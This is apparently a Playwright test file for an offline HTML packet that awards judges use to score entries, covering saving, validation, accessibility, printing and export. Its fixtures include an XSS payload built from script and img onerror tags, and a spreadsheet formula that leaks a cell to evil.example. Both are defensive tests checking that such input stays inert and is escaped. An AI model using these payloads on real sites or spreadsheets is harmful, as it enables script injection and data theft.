/**
 * A judge packet in real Chromium, opened from file:// as a judge would: it fetches nothing,
 * hostile entry text stays inert, scores entered with mouse and keyboard survive a reload, an
 * off-scale score is refused, and Export downloads a file the importer accepts.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { parsePacketExport, renderPacket, type PacketInput } from '../../src/lib/awards/packet.ts';
import { parseScoreSheet } from '../../src/lib/awards/scores.ts';
import { demoPacket, demoPacketProgram } from '../fixtures/packet-program.ts';
import { CHROMIUM_OPTIONS } from '../serve.ts';

const HOSTILE = '</script><script>alert("xss")</script><img src=x onerror=alert("xss")>';

const program = demoPacketProgram;

const packet = demoPacket([
	{
		id: 'quarry-planning',
		category: 'operations',
		title: 'One plan for every mill',
		summary: 'Replacing three spreadsheets with one forecast.',
		narrative: 'We replaced three planning spreadsheets.\n\n- Stock-outs down by 40%',
		evidence: [{ label: 'Forecast error', detail: 'MAPE fell from 21% to 9%.', url: 'https://audit.example/report' }],
	},
	{
		id: 'hostile-entry',
		category: 'operations',
		title: HOSTILE,
		summary: HOSTILE,
		narrative: `# ${HOSTILE}\n\n${HOSTILE}`,
		evidence: [{ label: HOSTILE, detail: HOSTILE, url: 'https://evil.example/"><script>alert("xss")</script>' }],
	},
]);

/** The same packet on a 0–100 scale, where the scorecard has number fields a judge types into. */
const typedPacket: PacketInput = {
	...packet,
	program: {
		...program,
		id: 'typed-awards',
		scale: { min: 0, max: 100, step: 1 },
		criteria: program.criteria.map((c) => ({ ...c, levels: [{ score: 0, label: 'None', descriptor: 'Nothing.' }, { score: 100, label: 'All', descriptor: 'Everything.' }] })),
	},
	entries: [packet.entries[0]],
};

let browser: Browser;
const dir = mkdtempSync(path.join(tmpdir(), 'credence-packet-'));
const packetUrl = pathToFileURL(path.join(dir, 'ana-lyst.html')).href;
const typedUrl = pathToFileURL(path.join(dir, 'typed.html')).href;

beforeAll(async () => {
	writeFileSync(path.join(dir, 'ana-lyst.html'), renderPacket(packet));
	writeFileSync(path.join(dir, 'typed.html'), renderPacket(typedPacket));
	browser = await chromium.launch(CHROMIUM_OPTIONS);
}, 60_000);

afterAll(async () => {
	await browser?.close();
	rmSync(dir, { recursive: true, force: true });
});

/** A page that records every request, console error and dialog it sees. */
/**
 * Clicks with `click` and answers the packet's own question (a confirm) that it opens; resolves to
 * the question. Waits for the dialog itself: on a loaded machine its event can come after the
 * click has resolved, so reading the dialogs seen so far right after the click is a race.
 */
async function answerConfirm(page: Page, click: () => Promise<void>, answer: 'accept' | 'dismiss'): Promise<string> {
	const asked = page.waitForEvent('dialog', { predicate: (dialog) => dialog.type() === 'confirm' }).then(async (dialog) => {
		const question = dialog.message();
		await (answer === 'accept' ? dialog.accept() : dialog.dismiss());
		return question;
	});
	await click();
	return asked;
}

async function openPage(context: BrowserContext, url: string) {
	const page = await context.newPage();
	const requests: string[] = [];
	const errors: string[] = [];
	const dialogs: string[] = [];
	page.on('request', (request) => requests.push(request.url()));
	page.on('console', (message) => {
		if (message.type() === 'error') errors.push(message.text());
	});
	page.on('pageerror', (error) => errors.push(error.message));
	page.on('dialog', (dialog) => {
		dialogs.push(dialog.message());
		// Confirms are the packet's own question; tests that expect one answer it themselves. Leaving
		// the page (a reload) with unexported scores is allowed unless a test says otherwise.
		if (dialog.type() === 'beforeunload') void dialog.accept();
		else if (dialog.type() !== 'confirm') void dialog.dismiss();
	});
	await page.goto(url);
	return { page, requests, errors, dialogs };
}

/** The fieldset scoring one criterion of one entry (entries and criteria counted from 1). */
const field = (page: Page, entry: number, criterion: number) => page.locator(`#entry-${entry} fieldset.score`).nth(criterion - 1);

it('is inert, offline, keeps scores across a reload and exports them', async () => {
	const context = await browser.newContext({ acceptDownloads: true });
	const { page, requests, errors, dialogs } = await openPage(context, packetUrl);

	await expect(page.locator('h1').textContent()).resolves.toBe('Demo Innovation Awards');
	await expect(page.locator('html').getAttribute('lang')).resolves.toBe('en');
	await expect(page.getByText('Judged blind.').count()).resolves.toBe(1);
	// The hostile title is shown as text, not run or parsed.
	await expect(page.locator('#entry-2-title').textContent()).resolves.toBe(HOSTILE);
	await expect(page.locator('img').count()).resolves.toBe(0);
	await expect(page.locator('script').count()).resolves.toBe(2);
	await expect(page.locator('#progress').textContent()).resolves.toBe('0 of 3 entries complete');

	// Exporting before anything is scored is refused outright.
	await page.getByRole('button', { name: 'Export scores (JSON)' }).click();
	await expect(page.locator('#message').textContent()).resolves.toBe('Nothing to export yet: score at least one entry first.');

	// Entry 1 with the mouse: click the option labels.
	await field(page, 1, 1).getByText('4.5', { exact: true }).click();
	await field(page, 1, 2).getByRole('radio', { name: '3', exact: true }).click();
	await field(page, 1, 1).getByRole('textbox').fill('Strong, "audited" results, with a baseline.');
	await expect(page.locator('#progress').textContent()).resolves.toBe('1 of 3 entries complete');
	await expect(page.locator('[data-entry-status="0"]').textContent()).resolves.toBe('Complete');

	// Exporting an incomplete scorecard asks first; saying no downloads nothing.
	let downloads = 0;
	page.on('download', () => downloads++);
	const question = await answerConfirm(page, () => page.getByRole('button', { name: 'Export scores (JSON)' }).click(), 'dismiss');
	expect(question).toBe('Only 1 of 3 entries are complete. Export the 2 scores entered so far? You can export again when you finish.');
	await expect.poll(() => page.locator('#message').textContent()).toBe('Export cancelled.');
	expect(downloads).toBe(0);

	// Entry 2 with the keyboard: Space picks the focused option, arrows move along the scale.
	await field(page, 2, 1).getByRole('radio').first().focus();
	await page.keyboard.press('Space');
	await page.keyboard.press('ArrowRight');
	await page.keyboard.press('ArrowRight'); // 1 → 1.5 → 2
	await page.keyboard.press('Tab'); // to the criterion's "Clear score" button, enabled now it has a score
	await expect(page.evaluate(() => document.activeElement?.textContent)).resolves.toBe('Clear score for Measured impact');
	await page.keyboard.press('Tab'); // to the comment
	await page.keyboard.type('Says little <b>about</b> results.');
	await page.keyboard.press('Tab'); // to the next criterion's radio group
	await page.keyboard.press('Space');
	for (let i = 0; i < 8; i++) await page.keyboard.press('ArrowRight'); // 1 → 5, the last option
	// Entry 3: mouse again.
	await field(page, 3, 1).getByRole('radio', { name: '1 Unclear' }).click();
	await field(page, 3, 2).getByRole('radio', { name: '2.5' }).click();
	await expect(page.locator('#progress').textContent()).resolves.toBe('3 of 3 entries complete');

	// Everything survives closing and reopening the file.
	await page.reload();
	await expect(page.locator('#progress').textContent()).resolves.toBe('3 of 3 entries complete');
	await expect(field(page, 1, 1).getByRole('radio', { name: '4.5' }).isChecked()).resolves.toBe(true);
	await expect(field(page, 2, 1).getByRole('radio', { name: '2', exact: true }).isChecked()).resolves.toBe(true);
	await expect(field(page, 2, 2).getByRole('radio', { name: '5 Pioneering' }).isChecked()).resolves.toBe(true);
	await expect(field(page, 2, 1).getByRole('textbox').inputValue()).resolves.toBe('Says little <b>about</b> results.');

	// Complete, so Export asks nothing and downloads the judge's score file.
	const dialogsBefore = dialogs.length;
	const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export scores (JSON)' }).click()]);
	expect(download.suggestedFilename()).toBe('demo-awards-round-1-ana-lyst.json');
	expect(dialogs.length).toBe(dialogsBefore);
	const parsed = parsePacketExport(readFileSync(await download.path(), 'utf8'));
	if (!parsed.ok) throw new Error(parsed.error);
	expect(parsed.value).toMatchObject({ format: 'credence-scores/1', program: 'demo-awards', round: 'round-1', judge: 'ana-lyst' });
	expect(Date.parse(parsed.value.exportedAt)).not.toBeNaN();
	const expected = [
		{ entry: 'quarry-planning', criterion: 'impact', score: 4.5, comment: 'Strong, "audited" results, with a baseline.' },
		{ entry: 'quarry-planning', criterion: 'originality', score: 3, comment: '' },
		{ entry: 'hostile-entry', criterion: 'impact', score: 2, comment: 'Says little <b>about</b> results.' },
		{ entry: 'hostile-entry', criterion: 'originality', score: 5, comment: '' },
		{ entry: 'night-shift-routing', criterion: 'impact', score: 1, comment: '' },
		{ entry: 'night-shift-routing', criterion: 'originality', score: 2.5, comment: '' },
	];
	expect(parsed.value.scores).toEqual(expected);

	// The CSV export is the score sheet the CLI already reads.
	const [csv] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export as CSV' }).click()]);
	expect(csv.suggestedFilename()).toBe('demo-awards-round-1-ana-lyst.csv');
	const sheet = parseScoreSheet(readFileSync(await csv.path(), 'utf8'), 'demo-awards-round-1-ana-lyst.csv');
	expect(sheet.diagnostics).toEqual([]);
	expect(sheet.lines.map((l) => l.row)).toEqual(expected.map((row) => ({ judge: 'ana-lyst', ...row })));

	// Nothing but the file itself (and the in-memory download blobs) was ever requested, no
	// script ran from entry text, and the Content-Security-Policy admitted the packet's own code.
	expect(requests.filter((url) => !url.startsWith('blob:'))).toEqual([packetUrl, packetUrl]);
	expect(dialogs.filter((message) => message.includes('xss'))).toEqual([]);
	expect(errors).toEqual([]);
	await context.close();
}, 60_000);

it('refuses a typed score off the scale or its step', async () => {
	const context = await browser.newContext({ acceptDownloads: true });
	const { page, requests, errors } = await openPage(context, typedUrl);
	const impact = page.getByRole('spinbutton', { name: /^Score/ }).first();
	const originality = page.getByRole('spinbutton', { name: /^Score/ }).nth(1);

	for (const offScale of ['150', '-1', '42.5']) {
		await impact.fill(offScale);
		await impact.press('Tab');
		await expect(impact.getAttribute('aria-invalid')).resolves.toBe('true');
		await expect(page.locator('#e1-c1-error').textContent()).resolves.toBe('Not a valid score: enter a number from 0 to 100 in steps of 1.');
	}
	await originality.fill('64');
	await expect(page.locator('[data-entry-progress="0"]').textContent()).resolves.toBe('1 of 2 criteria scored');
	// An invalid value blocks the export until it is fixed.
	await page.getByRole('button', { name: 'Export scores (JSON)' }).click();
	await expect(page.locator('#message').textContent()).resolves.toBe('Fix the score marked as not valid before exporting.');
	await expect(impact.evaluate((input) => input === document.activeElement)).resolves.toBe(true);

	// Within float error of a step: kept as the step itself, and the field shows it.
	await impact.fill('42.0000000001');
	await impact.press('Tab');
	await expect(impact.inputValue()).resolves.toBe('42');
	await expect(impact.getAttribute('aria-invalid')).resolves.toBeNull();
	await expect(page.locator('#e1-c1-error').isHidden()).resolves.toBe(true);
	await expect(page.locator('#progress').textContent()).resolves.toBe('1 of 1 entries complete');

	await page.reload();
	await expect.poll(() => impact.inputValue()).toBe('42');
	const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export scores (JSON)' }).click()]);
	expect(download.suggestedFilename()).toBe('typed-awards-round-1-ana-lyst.json');
	const parsed = parsePacketExport(readFileSync(await download.path(), 'utf8'));
	if (!parsed.ok) throw new Error(parsed.error);
	expect(parsed.value.scores.map((s) => [s.criterion, s.score])).toEqual([
		['impact', 42],
		['originality', 64],
	]);
	expect(requests.filter((url) => !url.startsWith('blob:'))).toEqual([typedUrl, typedUrl]);
	expect(errors).toEqual([]);
	await context.close();
}, 60_000);

it('has no axe-detectable accessibility violations', async () => {
	// axe is injected as a script, which the packet's own policy forbids: this context bypasses it.
	const context = await browser.newContext({ bypassCSP: true });
	const page = await context.newPage();
	await page.goto(packetUrl);
	await field(page, 1, 1).getByRole('radio', { name: '3 Solid' }).click();
	await page.addScriptTag({ path: createRequire(import.meta.url).resolve('axe-core/axe.min.js') });
	const violations = await page.evaluate(async () => {
		const axe = (window as unknown as { axe: { run: (options: object) => Promise<{ violations: { id: string; nodes: unknown[] }[] }> } }).axe;
		const result = await axe.run({ runOnly: { type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'best-practice'] } });
		return result.violations.map((v) => `${v.id} (${v.nodes.length})`);
	});
	expect(violations).toEqual([]);
	// The number-field scorecard, with its level list, too.
	await page.goto(typedUrl);
	await page.addScriptTag({ path: createRequire(import.meta.url).resolve('axe-core/axe.min.js') });
	const typedViolations = await page.evaluate(async () => {
		const axe = (window as unknown as { axe: { run: (options: object) => Promise<{ violations: { id: string; nodes: unknown[] }[] }> } }).axe;
		const result = await axe.run({ runOnly: { type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'best-practice'] } });
		return result.violations.map((v) => `${v.id} (${v.nodes.length})`);
	});
	expect(typedViolations).toEqual([]);
	await context.close();
}, 60_000);

it('keeps the scores and comments of two copies of the packet open at once, and says it is open twice', async () => {
	const context = await browser.newContext({ acceptDownloads: true });
	const a = await openPage(context, packetUrl);
	const b = await openPage(context, packetUrl);
	const twice = 'This packet is also open in another tab or window. Scores and comments typed in either are kept in both, but it is simplest to close one.';
	// Both copies learn of the other as soon as the second one opens.
	await expect.poll(() => a.page.locator('#notices').textContent()).toBe(twice);
	await expect.poll(() => b.page.locator('#notices').textContent()).toBe(twice);

	// Interleaved work in the two tabs, on different criteria and on the same one.
	await field(a.page, 1, 1).getByRole('radio', { name: '4.5' }).click();
	await field(a.page, 1, 1).getByRole('textbox').fill('Typed in tab A.');
	await field(b.page, 2, 1).getByRole('radio', { name: '2', exact: true }).click();
	await field(b.page, 1, 2).getByRole('textbox').fill('Typed in tab B.');
	await field(a.page, 3, 2).getByRole('radio', { name: '2.5' }).click();
	await field(b.page, 1, 2).getByRole('radio', { name: '3', exact: true }).click();
	// A later choice in one tab replaces an earlier one in the other, and shows there.
	await field(b.page, 1, 1).getByRole('radio', { name: '4', exact: true }).click();
	await expect.poll(() => field(a.page, 1, 1).getByRole('radio', { name: '4', exact: true }).isChecked()).toBe(true);

	// Each tab's form shows the other's work without a reload.
	await expect.poll(() => field(a.page, 2, 1).getByRole('radio', { name: '2', exact: true }).isChecked()).toBe(true);
	await expect.poll(() => field(a.page, 1, 2).getByRole('textbox').inputValue()).toBe('Typed in tab B.');
	await expect.poll(() => field(b.page, 1, 1).getByRole('textbox').inputValue()).toBe('Typed in tab A.');
	await expect.poll(() => field(b.page, 3, 2).getByRole('radio', { name: '2.5' }).isChecked()).toBe(true);
	await expect.poll(() => a.page.locator('#progress').textContent()).toBe('1 of 3 entries complete');

	// Nothing typed in either tab is lost: a fresh copy of the file, and either tab's export, has it all.
	await b.page.close();
	await a.page.close();
	const c = await openPage(context, packetUrl);
	const expected = [
		{ entry: 'quarry-planning', criterion: 'impact', score: 4, comment: 'Typed in tab A.' },
		{ entry: 'quarry-planning', criterion: 'originality', score: 3, comment: 'Typed in tab B.' },
		{ entry: 'hostile-entry', criterion: 'impact', score: 2, comment: '' },
		{ entry: 'night-shift-routing', criterion: 'originality', score: 2.5, comment: '' },
	];
	c.page.once('dialog', (dialog) => void dialog.accept());
	const [download] = await Promise.all([c.page.waitForEvent('download'), c.page.getByRole('button', { name: 'Export scores (JSON)' }).click()]);
	const parsed = parsePacketExport(readFileSync(await download.path(), 'utf8'));
	if (!parsed.ok) throw new Error(parsed.error);
	expect(parsed.value.scores).toEqual(expected);
	expect([...a.errors, ...b.errors, ...c.errors]).toEqual([]);
	await context.close();
}, 60_000);

it('says, before exporting, that comments on criteria without a score are not in the file', async () => {
	const context = await browser.newContext({ acceptDownloads: true });
	const { page, errors } = await openPage(context, packetUrl);
	for (const entry of [1, 2, 3]) for (const criterion of [1, 2]) await field(page, entry, criterion).locator('input[value="3"]').click();
	// Two comments whose criteria then lose their scores (as another copy of the packet clearing them would).
	const orphan = field(page, 2, 2).getByRole('textbox');
	await orphan.fill('Interesting, but I have not decided.');
	await field(page, 3, 1).getByRole('textbox').fill('Need to reread.');
	await page.evaluate(() => {
		const saved = JSON.parse(localStorage.getItem('credence-packet:demo-awards:round-1:ana-lyst')!);
		saved.scores['hostile-entry'].originality = { v: null, t: Date.now() + 1000 };
		saved.scores['night-shift-routing'].impact = { v: null, t: Date.now() + 1000 };
		localStorage.setItem('credence-packet:demo-awards:round-1:ana-lyst', JSON.stringify(saved));
	});
	await page.reload();
	const text = '2 comments are on criteria without a score, so they are not in the file: score those criteria or clear the comments.';
	let downloads = 0;
	page.on('download', () => downloads++);
	// Declined: nothing downloads, the message stays, and the first such comment has the focus.
	const question = await answerConfirm(page, () => page.getByRole('button', { name: 'Export scores (JSON)' }).click(), 'dismiss');
	expect(question).toBe(`${text} Export without them?`);
	await expect.poll(() => page.locator('#message').textContent()).toBe(`Export cancelled. ${text}`);
	await expect(orphan.evaluate((t) => t === document.activeElement)).resolves.toBe(true);
	expect(downloads).toBe(0);
	// Accepted (and the incomplete entries too): the file has the scores, and the message says what it left out.
	page.on('dialog', (dialog) => void dialog.accept());
	const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export scores (JSON)' }).click()]);
	const parsed = parsePacketExport(readFileSync(await download.path(), 'utf8'));
	if (!parsed.ok) throw new Error(parsed.error);
	expect(parsed.value.scores).toHaveLength(4);
	expect(parsed.value.scores.map((s) => s.comment)).toEqual(['', '', '', '']);
	await expect(page.locator('#message').textContent()).resolves.toBe('Exported 4 scores as demo-awards-round-1-ana-lyst.json. Send this file to the program team. 2 comments on criteria without a score are not in the file.');
	expect(errors).toEqual([]);
	await context.close();
}, 60_000);

it('clears one criterion\'s score (button or Delete), or every score after confirming', async () => {
	const context = await browser.newContext();
	const { page, errors } = await openPage(context, packetUrl);
	const clear = (entry: number, criterion: number) => field(page, entry, criterion).getByRole('button', { name: /^Clear score for / });
	await expect(clear(1, 1).isDisabled()).resolves.toBe(true);
	await field(page, 1, 1).getByRole('radio', { name: '4.5' }).click();
	await field(page, 1, 2).getByRole('radio', { name: '2', exact: true }).click();
	await field(page, 2, 1).getByRole('radio', { name: '3 Solid' }).click();
	await field(page, 2, 1).getByRole('textbox').fill('Kept when the score is cleared.');
	await expect(page.locator('[data-entry-progress="0"]').textContent()).resolves.toBe('2 of 2 criteria scored: complete');

	// The button clears that criterion only, and the focus moves to its options rather than being lost.
	await clear(1, 1).click();
	await expect(field(page, 1, 1).locator('input:checked').count()).resolves.toBe(0);
	await expect(field(page, 1, 2).getByRole('radio', { name: '2', exact: true }).isChecked()).resolves.toBe(true);
	await expect(page.locator('[data-entry-progress="0"]').textContent()).resolves.toBe('1 of 2 criteria scored');
	await expect(clear(1, 1).isDisabled()).resolves.toBe(true);
	await expect(field(page, 1, 1).getByRole('radio').first().evaluate((r) => r === document.activeElement)).resolves.toBe(true);
	// Delete on a picked option clears it too; the comment stays.
	await field(page, 2, 1).getByRole('radio', { name: '3 Solid' }).focus();
	await page.keyboard.press('Delete');
	await expect(field(page, 2, 1).locator('input:checked').count()).resolves.toBe(0);
	await expect(field(page, 2, 1).getByRole('textbox').inputValue()).resolves.toBe('Kept when the score is cleared.');
	// Cleared stays cleared after a reload.
	await page.reload();
	await expect(field(page, 1, 1).locator('input:checked').count()).resolves.toBe(0);
	await expect(field(page, 1, 2).getByRole('radio', { name: '2', exact: true }).isChecked()).resolves.toBe(true);

	// Clear all asks first; declining keeps everything.
	const question = await answerConfirm(page, () => page.getByRole('button', { name: 'Clear all my scores' }).click(), 'dismiss');
	expect(question).toBe('Clear all 1 score and 1 comment in this packet? This cannot be undone: export them first if you may want them again.');
	await expect.poll(() => page.locator('#message').textContent()).toBe('Nothing was cleared.');
	await expect(field(page, 1, 2).getByRole('radio', { name: '2', exact: true }).isChecked()).resolves.toBe(true);
	page.once('dialog', (dialog) => void dialog.accept());
	await page.getByRole('button', { name: 'Clear all my scores' }).click();
	await expect(page.locator('#message').textContent()).resolves.toBe('Cleared 1 score and 1 comment.');
	await expect(page.locator('input[data-score]:checked').count()).resolves.toBe(0);
	await expect(field(page, 2, 1).getByRole('textbox').inputValue()).resolves.toBe('');
	await page.reload();
	await expect(page.locator('input[data-score]:checked').count()).resolves.toBe(0);
	await expect(page.locator('#progress').textContent()).resolves.toBe('0 of 3 entries complete');
	expect(errors).toEqual([]);
	await context.close();
}, 60_000);

it('keeps the warning that scores cannot be saved in view', async () => {
	const context = await browser.newContext({ acceptDownloads: true });
	// A browser that refuses storage to the file (as some do for file:// pages, or by policy).
	await context.addInitScript(() => {
		Object.defineProperty(window, 'localStorage', { get: () => { throw new DOMException('The operation is insecure.', 'SecurityError'); } });
	});
	const { page, errors } = await openPage(context, packetUrl);
	const warning = 'This browser does not let the packet save scores: keep it open until you have exported them.';
	await expect(page.locator('#notices').textContent()).resolves.toBe(warning);
	await expect(page.locator('#notices').isVisible()).resolves.toBe(true);
	await field(page, 1, 1).getByRole('radio', { name: '4.5' }).click();
	// Export messages come and go; the warning stays.
	page.once('dialog', (dialog) => void dialog.dismiss()); // only 1 of 3 entries complete: cancel
	await page.getByRole('button', { name: 'Export scores (JSON)' }).click();
	await expect(page.locator('#message').textContent()).resolves.toBe('Export cancelled.');
	await expect(page.locator('#notices').textContent()).resolves.toBe(warning);
	await expect(page.locator('#notices').isVisible()).resolves.toBe(true);
	expect(errors).toEqual([]);
	await context.close();
}, 60_000);

it('asks before closing only while there are changes not yet exported', async () => {
	const context = await browser.newContext({ acceptDownloads: true });
	const page = await context.newPage();
	await page.goto(packetUrl);
	/** Tries to close the page: 'beforeunload' if it asks first (declined, so the page stays), 'closed' if it just closes. */
	const close = async (target: Page) => {
		const asked = new Promise<string>((resolve) => target.once('dialog', (dialog) => void dialog.dismiss().then(() => resolve(dialog.type()))));
		const closed = new Promise<string>((resolve) => target.once('close', () => resolve('closed')));
		await target.close({ runBeforeUnload: true });
		return Promise.race([asked, closed]);
	};
	await field(page, 1, 1).getByRole('radio', { name: '4.5' }).click();
	await expect(close(page)).resolves.toBe('beforeunload');
	expect(page.isClosed()).toBe(false);
	// Exported: nothing to lose, so the page closes without asking.
	page.once('dialog', (dialog) => void dialog.accept()); // only 1 of 3 entries complete
	await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export scores (JSON)' }).click()]);
	await expect(close(page)).resolves.toBe('closed');

	// Opening the file and only reading it asks nothing either.
	const reader = await context.newPage();
	await reader.goto(packetUrl);
	await reader.locator('#entry-2 h3').click(); // a user gesture, which a browser needs before it may ask
	await expect(close(reader)).resolves.toBe('closed');
	await context.close();
}, 60_000);

it('prints every comment in full', async () => {
	const context = await browser.newContext();
	const { page, errors } = await openPage(context, packetUrl);
	const long = Array.from({ length: 12 }, (_, i) => `Line ${i + 1}: the baseline was measured over two full quarters before the change.`).join('\n');
	await field(page, 1, 1).getByRole('textbox').fill(long);
	await field(page, 1, 2).getByRole('textbox').fill('Short.');
	await page.emulateMedia({ media: 'print' });
	for (const [criterion, text] of [[1, long], [2, 'Short.']] as const) {
		const printed = field(page, 1, criterion).locator('.comment-print');
		await expect(printed.isVisible()).resolves.toBe(true);
		await expect(printed.innerText()).resolves.toBe(text);
		// Nothing of it is cut off: the box is as tall as its text, and nothing around it clips it.
		const size = await printed.evaluate((el) => ({ client: el.clientHeight, scroll: el.scrollHeight, lines: el.getClientRects().length, height: el.getBoundingClientRect().height }));
		expect(size.scroll).toBeLessThanOrEqual(size.client);
		expect(size.height).toBeGreaterThan(criterion === 1 ? 12 * 14 : 0);
	}
	// The text areas themselves (which print only their visible rows) are not printed.
	await expect(field(page, 1, 1).getByRole('textbox').isVisible()).resolves.toBe(false);
	await page.emulateMedia({ media: 'screen' });
	await expect(field(page, 1, 1).locator('.comment-print').isVisible()).resolves.toBe(false);
	await expect(field(page, 1, 1).getByRole('textbox').isVisible()).resolves.toBe(true);
	// A comment saved earlier is in the printed copy too.
	await page.reload();
	await page.emulateMedia({ media: 'print' });
	await expect(field(page, 1, 1).locator('.comment-print').innerText()).resolves.toBe(long);
	expect(errors).toEqual([]);
	await context.close();
}, 60_000);

/** What the browser's accessibility tree gives a screen reader for the element: its role, name and description. */
async function accessible(page: Page, selector: string) {
	const cdp = await page.context().newCDPSession(page);
	const { root } = await cdp.send('DOM.getDocument');
	const { nodeId } = await cdp.send('DOM.querySelector', { nodeId: root.nodeId, selector });
	const { nodes } = await cdp.send('Accessibility.getPartialAXTree', { nodeId, fetchRelatives: false });
	await cdp.detach();
	const node = nodes[0] as { role?: { value?: string }; name?: { value?: string }; description?: { value?: string } };
	return { role: node.role?.value, name: node.name?.value, description: node.description?.value };
}

it('ties each score option to its level descriptor, and shows the descriptors beside a number field', async () => {
	const context = await browser.newContext();
	const { page, errors } = await openPage(context, packetUrl);
	// A radio anchored by a level is described by that level's descriptor; one between levels has no description.
	await expect(accessible(page, '#entry-1 fieldset.score input[value="3"]')).resolves.toEqual({ role: 'radio', name: '3 Solid', description: 'A clear improvement on an important measure.' });
	await expect(accessible(page, '#entry-2 fieldset.score:nth-of-type(2) input[value="5"]')).resolves.toEqual({ role: 'radio', name: '5 Pioneering', description: 'A genuinely new idea others will copy.' });
	const between = await accessible(page, '#entry-1 fieldset.score input[value="3.5"]');
	expect(between.name).toBe('3.5');
	expect(between.description ?? '').toBe('');

	const typed = await openPage(context, typedUrl);
	const levels = typed.page.locator('#e1-c1-levels');
	await expect(levels.isVisible()).resolves.toBe(true);
	await expect(levels.locator('li').allInnerTexts()).resolves.toEqual(['0 None: Nothing.', '100 All: Everything.']);
	const number = await accessible(typed.page, '#e1-c1-score');
	expect(number.role).toBe('spinbutton');
	expect(number.description).toBe('0 None: Nothing. 100 All: Everything.');
	// The error message still reaches the field's description when there is one.
	await typed.page.locator('#e1-c1-score').fill('150');
	await typed.page.locator('#e1-c1-score').press('Tab');
	await expect.poll(async () => (await accessible(typed.page, '#e1-c1-score')).description).toBe('0 None: Nothing. 100 All: Everything. Not a valid score: enter a number from 0 to 100 in steps of 1.');
	expect([...errors, ...typed.errors]).toEqual([]);
	await context.close();
}, 60_000);

it('exports a comment a spreadsheet would run as a formula as text in the CSV, and as typed in the JSON', async () => {
	const context = await browser.newContext({ acceptDownloads: true });
	const { page, errors } = await openPage(context, packetUrl);
	const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
	await field(page, 1, 1).getByRole('radio', { name: '4.5' }).click();
	await field(page, 1, 1).getByRole('textbox').fill(formula);
	page.on('dialog', (dialog) => void dialog.accept()); // only 1 of 3 entries complete
	const [csv] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export as CSV' }).click()]);
	const text = readFileSync(await csv.path(), 'utf8');
	expect(text).toBe(`judge,entry,criterion,score,comment\nana-lyst,quarry-planning,impact,4.5,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"\n`);
	const [json] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export scores (JSON)' }).click()]);
	const parsed = parsePacketExport(readFileSync(await json.path(), 'utf8'));
	if (!parsed.ok) throw new Error(parsed.error);
	expect(parsed.value.scores).toEqual([{ entry: 'quarry-planning', criterion: 'impact', score: 4.5, comment: formula }]);
	expect(errors).toEqual([]);
	await context.close();
}, 60_000);
